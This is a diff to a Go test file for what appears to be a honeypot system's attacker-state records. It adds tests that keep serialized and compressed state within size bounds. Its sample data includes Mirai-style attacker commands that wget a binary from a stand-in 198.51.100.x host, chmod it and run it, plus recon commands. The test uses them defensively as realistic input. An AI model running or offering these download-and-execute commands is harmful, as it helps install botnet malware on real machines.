@@ -2,6 +2,7 @@ package state
 
 import (
 	"bytes"
+	"compress/flate"
 	"crypto/sha256"
 	"errors"
 	"fmt"
@@ -118,7 +119,7 @@ func TestBounds(t *testing.T) {
 		"deckies":     {s.Deckies.Len(), LimitDeckies.Keys},
 		"sessions":    {s.Sessions.Len(), LimitSessions},
 		"sensors":     {s.Sensors.Len(), LimitSensors.Keys},
-		"hops":        {len(s.Hops.Items()), LimitHops},
+		"hops":        {len(s.Hops.Items()), LimitHops.Keys},
 		"times":       {len(s.Times.List()), LimitTimes},
 		"domains":     {s.Domains.Len(), LimitDomains},
 		"credentials": {s.Credentials.Len(), LimitCredentials.Keys},
@@ -140,10 +141,135 @@ func TestBounds(t *testing.T) {
 	if s.Events != 20_000 || s.CommandCount != 20_000 || s.Attempts != 20_000 {
 		t.Errorf("counts %d, %d, %d; want 20000 each", s.Events, s.CommandCount, s.Attempts)
 	}
-	size := len(s.Append(nil))
-	t.Logf("state with every list full: %d bytes before packing", size)
-	if size > 160<<10 {
-		t.Errorf("state is %d bytes; want at most %d", size, 160<<10)
+}
+
+// noise returns n characters that can't be packed, another text for each i.
+func noise(i, n int) string {
+	var seed [32]byte
+	copy(seed[:], fmt.Sprint(i, "/", n))
+	r := rand.NewChaCha8(seed)
+	b := make([]byte, n)
+	for j := range b {
+		b[j] = byte(0x21 + r.Uint64()%94)
+	}
+	return string(b)
+}
+
+// full returns the state of an attacker who fills every list with texts of
+// about size characters that can't be packed, as far as a text may be as long.
+func full(t *testing.T, size int) *Attacker {
+	t.Helper()
+	a, s := new(event.Arena), new(Attacker)
+	text := func(i, limit int) string { return noise(i, min(size, limit)) }
+	for i := range 1500 {
+		n := fmt.Sprint(i)
+		ev := &event.Event{
+			// Far apart: what lies between takes most.
+			Time: event.Time(1_000_000_000_000_000 + int64(i)*997_000_000_123), Addr: netip.AddrFrom16([16]byte{0x20, 1, 0xd, 0xb8, 14: byte(i >> 8), 15: byte(i)}),
+			Decky: text(i, event.MaxName), Service: text(i, event.MaxService), Type: text(i, event.MaxService), Kind: event.Interaction,
+			Evidence: []event.Evidence{
+				{Kind: event.Command, A: text(i, event.MaxCommand)},
+				{Kind: event.Login, A: text(i, event.MaxValue), B: text(i, event.MaxService), C: text(-i, event.MaxValue), Digest: sha256.Sum256([]byte(n)), Outcome: event.Success},
+				{Kind: event.Fingerprint, A: "ja3", B: text(i, event.MaxValue), Payload: []event.Field{{Key: "p", Value: text(-i, event.MaxPayload-16)}}},
+				{Kind: event.Artifact, A: noise(i, 64), B: text(i, event.MaxValue), C: "file", Payload: []event.Field{{Key: "p", Value: text(-i, event.MaxPayload-16)}}},
+				{Kind: event.Leak, A: noise(i, 15), B: text(i, event.MaxService), C: "public"},
+				{Kind: event.Session, A: n},
+				{Kind: event.Recipient, A: n + ".example.org"},
+				{Kind: event.Stack, A: text(i, event.MaxService), N: int64(i), M: int64(i), Payload: []event.Field{
+					{Key: "ipid_class", Value: text(i, 32)}, {Key: "isn_class", Value: text(i, 32)}, {Key: "options_sig", Value: text(i, event.MaxValue-128)}}},
+				{Kind: event.Stack, A: text(i, event.MaxService), Payload: []event.Field{{Key: "options_sig", Value: text(i, event.MaxPayload)}}},
+				{Kind: event.KexOrder, A: text(i, event.MaxValue)},
+				{Kind: event.Tool, A: text(i, event.MaxService), B: text(-i, event.MaxService)},
+				{Kind: event.Technique, A: text(i, 9), B: text(-i, event.MaxValue)},
+				{Kind: event.Alert, A: text(i, event.MaxValue), B: text(-i, event.MaxValue), N: 1},
+			},
+		}
+		s.Fold(a, text(i, event.MaxName), true, []*event.Event{ev})
+		if i%250 == 249 {
+			if err := s.Decode(s.Append(nil)); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	for i := range LimitTransitions {
+		s.Transitions = append(s.Transitions, Transition{Action: "login_success", Value: noise(i, 11), Time: s.Last})
+	}
+	s.Crowd.Share = 0.5
+	return s
+}
+
+// With every list full of what can't be packed, and names as long as they may
+// be, the state stays within MaxAttacker, and Size never says less than it is.
+func TestSizeIsBounded(t *testing.T) {
+	worst := 0
+	for _, size := range []int{1, 4, 7, 10, 16, 31, 60, 120, 200, 255, 500, 1024, 4096} {
+		s := full(t, size)
+		got := len(s.Append(nil))
+		worst = max(worst, got)
+		if got > s.Size() || s.Size() > MaxAttacker {
+			t.Errorf("texts of %d: %d bytes, said to be at most %d, of at most %d", size, got, s.Size(), MaxAttacker)
+		}
+	}
+	t.Logf("at most %d bytes; the bound is %d", worst, MaxAttacker)
+	if worst < MaxAttacker*2/3 {
+		t.Errorf("the bound of %d is far from the worst case found, %d: is every list full?", MaxAttacker, worst)
+	}
+}
+
+// What attackers really send fits into 64 KiB with every list full, the ids of
+// 512 chunks included.
+func TestSizeOfAnOrdinaryFullState(t *testing.T) {
+	a, s := new(event.Arena), new(Attacker)
+	commands := []string{"cd /tmp || cd /var/run || cd /mnt || cd /root", "wget http://198.51.100.%d/bins/mirai.x86 -O /tmp/.x%d", "chmod 777 .x%d; ./.x%d ssh.wget", "cat /proc/cpuinfo | grep name | wc -l", "uname -s -v -n -r -m", "echo -e \"\\x6b\\x61\\x6d%d\" > /tmp/.nippon"}
+	for i := range 2000 {
+		n := fmt.Sprint(i)
+		sum := sha256.Sum256([]byte(n))
+		digest := fmt.Sprintf("%x", sum)
+		ev := &event.Event{
+			Time: event.Time(1_760_000_000_000_000 + int64(i)*37_123_457), Decky: fmt.Sprintf("decky-%03d", i%300), Service: fmt.Sprint("svc", i%40), Type: "command", Kind: event.Interaction,
+			Evidence: []event.Evidence{
+				{Kind: event.Command, A: strings.ReplaceAll(commands[i%len(commands)], "%d", n)},
+				{Kind: event.Login, A: []string{"root", "admin", "ubuntu", "pi"}[i%4], B: "plaintext", C: "pass" + n, Digest: sum},
+				{Kind: event.Fingerprint, A: "ja3", B: digest[:32], Payload: []event.Field{{Key: "ja4", Value: "t13d1516h2_8daaf6152771_" + digest[:12]}, {Key: "tls_version", Value: "TLS 1.3"}, {Key: "raw_ciphers", Value: "4865-4866-4867-49195-49199-49196-49200-52393-52392-49171-49172-156-157-47-53"}}},
+				{Kind: event.Artifact, A: digest, B: "http://198.51.100.7/bins/x" + n, C: "file"},
+				{Kind: event.Leak, A: fmt.Sprintf("203.0.%d.%d", i%250, i/250), B: "X-Forwarded-For", C: "public"},
+				{Kind: event.Session, A: n},
+				{Kind: event.Recipient, A: n + ".example.org"},
+				{Kind: event.Stack, A: "linux", N: int64(40 + i%20), M: int64(i % 16), Payload: []event.Field{{Key: "window", Value: n}}},
+				{Kind: event.KexOrder, A: "curve25519-sha256,ecdh-sha2-nistp256,diffie-hellman-group14-sha" + n},
+				{Kind: event.Technique, A: fmt.Sprint("T1", i%60), B: "fetches a file with wget or curl"},
+				{Kind: event.Alert, A: "ET SCAN Potential SSH Scan OUTBOUND " + n, B: "Attempted Information Leak", N: 2},
+			},
+		}
+		s.Fold(a, fmt.Sprint("sensor-", i%20), false, []*event.Event{ev})
+	}
+	var packed bytes.Buffer
+	w, err := flate.NewWriter(&packed, flate.BestSpeed)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := w.Write(s.Append(nil)); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	const ids = 512 * 24
+	t.Logf("%d bytes, packed %d, with the ids of 512 chunks %d", len(s.Append(nil)), packed.Len(), packed.Len()+ids)
+	if packed.Len()+ids > 64<<10 {
+		t.Errorf("%d bytes packed, with ids; want at most %d", packed.Len()+ids, 64<<10)
+	}
+	// What is ordinary isn't cut below the number of keys that lists may have.
+	for name, got := range map[string][2]int{
+		"commands": {len(s.Commands.Items()), LimitCommands.Keys}, "credentials": {s.Credentials.Len(), LimitCredentials.Keys},
+		"times": {len(s.Times.List()), LimitTimes}, "hops": {len(s.Hops.Items()), LimitHops.Keys},
+	} {
+		if got[0] < got[1]*19/20 {
+			t.Errorf("%s: %d kept of at most %d", name, got[0], got[1])
+		}
+	}
+	if n := s.Deckies.Len(); n < 240 {
+		t.Errorf("deckies: %d kept", n)
 	}
 }
 
